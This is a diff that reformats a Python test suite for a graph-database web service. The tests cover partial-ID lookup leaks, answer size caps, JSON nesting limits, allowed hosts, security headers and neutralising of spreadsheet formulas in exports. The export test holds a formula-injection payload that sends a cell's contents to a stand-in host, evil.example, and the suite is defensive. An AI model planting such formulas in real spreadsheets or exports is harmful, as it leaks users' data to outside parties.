@@ -11,6 +11,7 @@
 - Exports neutralise formula-looking header and value cells; every response carries the security headers,
   and answers `Cache-Control: no-store`.
 """
+
 from __future__ import annotations
 
 import csv
@@ -30,8 +31,12 @@ from service.config import ConfigError, normalise, settings_from_env
 
 pytest_plugins = ("test_service_support",)
 
-QUIET_PAGES = {"PAGES_QUERY_TIMEOUT": 120.0, "PAGES_AUDIT_BUDGET": 240.0, "PAGES_ACHIEVEMENT_TIMEOUT": 120.0,
-               "PAGES_FINDING_TIMEOUT": 120.0}  # nothing of a page left to the background: answers stay comparable
+QUIET_PAGES = {
+    "PAGES_QUERY_TIMEOUT": 120.0,
+    "PAGES_AUDIT_BUDGET": 240.0,
+    "PAGES_ACHIEVEMENT_TIMEOUT": 120.0,
+    "PAGES_FINDING_TIMEOUT": 120.0,
+}  # nothing of a page left to the background: answers stay comparable
 ASSET_ENDPOINTS = {"static", "pages.asset"}
 VARIABLE = re.compile(r"<(?:[^:>]+:)?([^>]+)>")
 
@@ -41,15 +46,21 @@ VARIABLE = re.compile(r"<(?:[^:>]+:)?([^>]+)>")
 
 def _elsewhere(runner, text: str) -> int:
     """How many properties other than NIPs contain `text` (a probe must match NIPs only)."""
-    return runner.read("MATCH (n) UNWIND keys(n) AS key WITH n, key WHERE NOT key IN ['nip', 'supervisor_nip'] "
-                       "AND any(x IN CASE WHEN n[key] IS :: LIST<ANY> THEN n[key] ELSE [n[key]] END "
-                       "WHERE toString(x) CONTAINS $text) RETURN count(*) AS found", {"text": text})[0]["found"]
+    return runner.read(
+        "MATCH (n) UNWIND keys(n) AS key WITH n, key WHERE NOT key IN ['nip', 'supervisor_nip'] "
+        "AND any(x IN CASE WHEN n[key] IS :: LIST<ANY> THEN n[key] ELSE [n[key]] END "
+        "WHERE toString(x) CONTAINS $text) RETURN count(*) AS found",
+        {"text": text},
+    )[0]["found"]
 
 
 def _anywhere(runner, text: str) -> int:
-    return runner.read("MATCH (n) UNWIND keys(n) AS key WITH n, key "
-                       "WHERE any(x IN CASE WHEN n[key] IS :: LIST<ANY> THEN n[key] ELSE [n[key]] END "
-                       "WHERE toString(x) CONTAINS $text) RETURN count(*) AS found", {"text": text})[0]["found"]
+    return runner.read(
+        "MATCH (n) UNWIND keys(n) AS key WITH n, key "
+        "WHERE any(x IN CASE WHEN n[key] IS :: LIST<ANY> THEN n[key] ELSE [n[key]] END "
+        "WHERE toString(x) CONTAINS $text) RETURN count(*) AS found",
+        {"text": text},
+    )[0]["found"]
 
 
 def _probes(runner, nip: str) -> list[tuple[str, str]]:
@@ -58,8 +69,11 @@ def _probes(runner, nip: str) -> list[tuple[str, str]]:
     pairs = []
     for part in (nip[6:16], nip[:17], nip[:8], nip[5:]):
         assert _elsewhere(runner, part) == 0, f"{part} is not only part of a NIP in the sample"
-        control = next(candidate for shift in range(1, 10)
-                       if not _anywhere(runner, candidate := "".join(str((int(d) + shift) % 10) for d in part)))
+        control = next(
+            candidate
+            for shift in range(1, 10)
+            if not _anywhere(runner, candidate := "".join(str((int(d) + shift) % 10) for d in part))
+        )
         pairs.append((part, control))
     return pairs
 
@@ -71,14 +85,26 @@ def facts(sample) -> dict[str, Any]:
     goal = sample.read("MATCH (g:Goal)-[:MEASURED_BY]->() RETURN g.id AS id ORDER BY g.id LIMIT 1")[0]["id"]
     year = sample.read("MATCH (y:IndicatorYear) RETURN max(y.year) AS year")[0]["year"]
     target, other = people[len(people) // 2], people[len(people) // 3]
-    return {"nip": target["nip"], "other_nip": other["nip"], "unit": other["unit"], "goal": goal, "year": year,
-            "probes": _probes(sample, target["nip"])}
+    return {
+        "nip": target["nip"],
+        "other_nip": other["nip"],
+        "unit": other["unit"],
+        "goal": goal,
+        "year": year,
+        "probes": _probes(sample, target["nip"]),
+    }
 
 
 def _path_values(facts: dict[str, Any]) -> dict[str, str]:
     """A value for each path variable that leads somewhere real (unknown variables get 'x')."""
-    return {"unit": facts["unit"], "id": facts["goal"], "nip": facts["other_nip"], "name": "orphaned_staff",
-            "suffix": "csv", "filename": "pokin-pages.css"}
+    return {
+        "unit": facts["unit"],
+        "id": facts["goal"],
+        "nip": facts["other_nip"],
+        "name": "orphaned_staff",
+        "suffix": "csv",
+        "filename": "pokin-pages.css",
+    }
 
 
 def _url(rule: str, values: dict[str, str]) -> str:
@@ -104,8 +130,11 @@ def _requests(app, facts: dict[str, Any], catalog) -> Iterator[tuple[str, str, d
             flags = [param.name for param in query.params if param.type == "bool"]
             for flag_values in ({}, *({flag: "false"} for flag in flags), *({flag: "true"} for flag in flags)):
                 for suffix in ("", ".csv"):
-                    yield (f"/api/queries/{query.name}{suffix} ?{param.name} {flag_values}",
-                           f"/api/queries/{query.name}{suffix}", {**required, **flag_values, param.name: "{probe}"})
+                    yield (
+                        f"/api/queries/{query.name}{suffix} ?{param.name} {flag_values}",
+                        f"/api/queries/{query.name}{suffix}",
+                        {**required, **flag_values, param.name: "{probe}"},
+                    )
 
 
 def _filler(param, facts: dict[str, Any]) -> str:
@@ -117,9 +146,11 @@ def _filler(param, facts: dict[str, Any]) -> str:
 
 
 def _answer(client, url: str, query: dict[str, str], probe: str, headers: dict[str, str] | None = None):
-    response = client.get(url.replace("{probe}", probe),
-                          query_string={key: value.replace("{probe}", probe) for key, value in query.items()},
-                          headers=headers or {})
+    response = client.get(
+        url.replace("{probe}", probe),
+        query_string={key: value.replace("{probe}", probe) for key, value in query.items()},
+        headers=headers or {},
+    )
     return response.status_code, response.get_data(as_text=True).replace(probe, "<probe>")
 
 
@@ -138,8 +169,10 @@ def test_anonymous_readers_cannot_match_part_of_a_nip_through_any_endpoint(sampl
                 oracles.append(f"{label} with {part}: {found[0]} vs {nothing[0]}: {found[1][:160]!r}")
             for secret in (facts["nip"], facts["other_nip"]):
                 assert secret not in found[1], f"{label}: a full NIP in an anonymous answer"
-    assert not oracles, f"{len(oracles)} of {tried} requests tell a matching part of a NIP from a non-matching " \
-                        "one:\n" + "\n".join(oracles[:20])
+    assert not oracles, (
+        f"{len(oracles)} of {tried} requests tell a matching part of a NIP from a non-matching "
+        "one:\n" + "\n".join(oracles[:20])
+    )
 
 
 @pytest.mark.parametrize("probe_index", [0, 1, 2, 3])
@@ -150,8 +183,11 @@ def test_the_search_endpoints_find_no_one_by_part_of_a_nip_but_do_by_the_whole(s
     part, _ = facts["probes"][probe_index]
     for url in ("/api/queries/search", "/api/queries/search.csv", "/cari.json"):
         response = client.get(url, query_string={"q": part})
-        found = response.get_json()["rows"] if url.endswith("search") or url.endswith(".json") else \
-            list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
+        found = (
+            response.get_json()["rows"]
+            if url.endswith("search") or url.endswith(".json")
+            else list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
+        )
         assert found == [], (url, part)
         with_token = client.get(url, query_string={"q": part}, headers=AS_READER).get_data(as_text=True)
         assert facts["nip"] in with_token, (url, part)
@@ -159,8 +195,10 @@ def test_the_search_endpoints_find_no_one_by_part_of_a_nip_but_do_by_the_whole(s
     assert [row["id"] for row in rows] == [facts["nip"][:6] + "*" * 10 + facts["nip"][-2:]]
     refused = client.get("/api/queries/search", query_string={"q": part, "nip_exact": "false"})
     assert "token" in assert_error(refused, 403)["error"]
-    assert client.get("/api/queries/search", query_string={"q": part, "nip_exact": "false"},
-                      headers=AS_READER).status_code == 200
+    assert (
+        client.get("/api/queries/search", query_string={"q": part, "nip_exact": "false"}, headers=AS_READER).status_code
+        == 200
+    )
 
 
 # -- the answer's size ------------------------------------------------------------------------------------------------
@@ -170,8 +208,11 @@ def test_one_huge_row_is_refused_not_sent(sample):
     client = make_app(sample).test_client()
     started = time.monotonic()
     # one record of a million 20-character strings (about 23 MB as JSON), within the range() bound
-    response = client.post("/api/cypher", json={"query": "RETURN [x IN range(1, 1000000) | $text] AS r",
-                                                "params": {"text": "abcdefghij" * 2}}, headers=AS_READER)
+    response = client.post(
+        "/api/cypher",
+        json={"query": "RETURN [x IN range(1, 1000000) | $text] AS r", "params": {"text": "abcdefghij" * 2}},
+        headers=AS_READER,
+    )
     body = assert_error(response, 400)
     assert body["error"].startswith("answer too large") and "POKIN_CYPHER_MAX_MB" in body["error"]
     assert body["answer_cap_bytes"] == 16 * 1024 * 1024
@@ -195,8 +236,9 @@ def test_the_answer_cap_stops_fetching_rows_once_it_is_reached(sample):
     body = assert_error(response, 400)
     assert "more than 2097152 bytes" in body["error"]
     assert peak < 25 * 1024 * 1024, f"peak {peak / 1e6:.0f} MB while refusing"
-    small = client.post("/api/cypher", json={"query": query.replace("5000", "100"), "params": params},
-                        headers=AS_READER)
+    small = client.post(
+        "/api/cypher", json={"query": query.replace("5000", "100"), "params": params}, headers=AS_READER
+    )
     assert small.status_code == 200 and len(small.get_json()["rows"]) == 100
     as_csv = client.post("/api/cypher?format=csv", json={"query": query, "params": params}, headers=AS_READER)
     assert_error(as_csv, 400)
@@ -218,16 +260,16 @@ def test_deeply_nested_json_bodies_are_a_400(sample, depth):
     client = make_app(sample).test_client()
     for nested in ("[" * depth + "]" * depth, '{"a":' * depth + "1" + "}" * depth):
         body = '{"query": "RETURN $a AS a", "params": {"a": ' + nested + "}}"
-        error = assert_error(client.post("/api/cypher", data=body, content_type="application/json",
-                                         headers=AS_READER), 400)
+        error = assert_error(
+            client.post("/api/cypher", data=body, content_type="application/json", headers=AS_READER), 400
+        )
         assert "nested" in error["error"]
 
 
 def test_nesting_within_the_limit_and_brackets_inside_strings_are_fine(sample):
     client = make_app(sample).test_client()
     params = {"a": json.loads("[" * 30 + "]" * 30), "s": "[[[[[[[[[[" * 100}
-    response = client.post("/api/cypher", json={"query": "RETURN size($s) AS n", "params": params},
-                           headers=AS_READER)
+    response = client.post("/api/cypher", json={"query": "RETURN size($s) AS n", "params": params}, headers=AS_READER)
     assert response.status_code == 200 and response.get_json()["rows"] == [{"n": 1000}]
 
 
@@ -274,7 +316,9 @@ def test_allowed_hosts_are_configured_in_the_service_settings(sample):
     assert anything.get("/api/queries", headers={"Host": "whatever.example"}).status_code == 200
     assert normalise(settings_from_env({}))["ALLOWED_HOSTS"] == ("localhost", "127.0.0.1", "[::1]")
     assert normalise(settings_from_env({"POKIN_ALLOWED_HOSTS": " A.example , [::1]"}))["ALLOWED_HOSTS"] == (
-        "a.example", "[::1]")
+        "a.example",
+        "[::1]",
+    )
     for bad in ("https://a.example", "a.example:80", "a b", ",", "a.example/x"):
         with pytest.raises(ConfigError, match="POKIN_ALLOWED_HOSTS"):
             normalise(settings_from_env({"POKIN_ALLOWED_HOSTS": bad}))
@@ -283,8 +327,10 @@ def test_allowed_hosts_are_configured_in_the_service_settings(sample):
 # -- exports ----------------------------------------------------------------------------------------------------------
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"klik")'
-HOSTILE_EXPORT = ("RETURN 1 AS `" + FORMULA.replace("`", "``") + "`, '=1+1' AS `+plus`, '@SUM(A1)' AS value, "
-                  "-5 AS `-minus`, -2.5 AS negative, '-3' AS text_minus, 'a\u0001b' AS control")
+HOSTILE_EXPORT = (
+    "RETURN 1 AS `" + FORMULA.replace("`", "``") + "`, '=1+1' AS `+plus`, '@SUM(A1)' AS value, "
+    "-5 AS `-minus`, -2.5 AS negative, '-3' AS text_minus, 'a\u0001b' AS control"
+)
 
 
 def test_exports_neutralise_formula_headers_and_cells(sample):
@@ -297,8 +343,11 @@ def test_exports_neutralise_formula_headers_and_cells(sample):
     assert [cell.value for cell in header][:4] == ["'" + FORMULA, "'+plus", "value", "'-minus"]
     assert [cell.value for cell in row][:6] == [1, "'=1+1", "'@SUM(A1)", -5, -2.5, "'-3"]
     assert row[3].data_type == "n" and row[4].data_type == "n"
-    text = client.post("/api/cypher?format=csv", json={"query": HOSTILE_EXPORT},
-                       headers=AS_READER).get_data(as_text=True).lstrip("\ufeff")
+    text = (
+        client.post("/api/cypher?format=csv", json={"query": HOSTILE_EXPORT}, headers=AS_READER)
+        .get_data(as_text=True)
+        .lstrip("\ufeff")
+    )
     lines = list(csv.reader(io.StringIO(text)))
     assert lines[0][:4] == ["'" + FORMULA, "'+plus", "value", "'-minus"]
     assert lines[1][:6] == ["1", "'=1+1", "'@SUM(A1)", "-5", "-2.5", "'-3"]
@@ -328,9 +377,12 @@ def test_every_response_carries_the_security_headers_and_answers_are_not_stored(
             else:
                 assert response.headers.get("Cache-Control") == "no-store", where
     assert seen > 60
-    for response in (client.post("/api/cypher", json={"query": "RETURN 1 AS x"}, headers=AS_READER),
-                     client.post("/api/cypher?format=csv", json={"query": "RETURN 1 AS x"}, headers=AS_READER),
-                     client.get("/api/no-such-thing"), client.get("/api/queries", headers={"Host": "evil.example"})):
+    for response in (
+        client.post("/api/cypher", json={"query": "RETURN 1 AS x"}, headers=AS_READER),
+        client.post("/api/cypher?format=csv", json={"query": "RETURN 1 AS x"}, headers=AS_READER),
+        client.get("/api/no-such-thing"),
+        client.get("/api/queries", headers={"Host": "evil.example"}),
+    ):
         assert response.headers["Cache-Control"] == "no-store"
         assert response.headers["X-Content-Type-Options"] == "nosniff"
         assert response.headers["Content-Security-Policy"] == "default-src 'none'; frame-ancestors 'none'"
@@ -340,10 +392,16 @@ def test_the_answer_estimate_follows_the_json_size():
     """The bound measures without encoding; its estimate must stay close to what JSON really takes."""
     from graph.db import AnswerBound
 
-    values = [list(range(100_000)), [0.25 * i for i in range(10_000)], ["abc"] * 5_000, ["Kabupatèn"] * 1_000,
-              [{"id": f"G-{i}", "weight": None, "tags": ["a", "b"], "ok": True} for i in range(2_000)],
-              [[[1, 2], [3]]] * 1_000, "x" * 100_000]
+    values = [
+        list(range(100_000)),
+        [0.25 * i for i in range(10_000)],
+        ["abc"] * 5_000,
+        ["Kabupatèn"] * 1_000,
+        [{"id": f"G-{i}", "weight": None, "tags": ["a", "b"], "ok": True} for i in range(2_000)],
+        [[[1, 2], [3]]] * 1_000,
+        "x" * 100_000,
+    ]
     for value in values:
         real = len(json.dumps(value, separators=(",", ":")))  # ensure_ascii, as the service sends it
-        estimate = AnswerBound(10 ** 9)._size([value], 10 ** 9)
+        estimate = AnswerBound(10**9)._size([value], 10**9)
         assert 0.8 * real <= estimate <= 1.5 * real, (str(value)[:40], estimate, real)
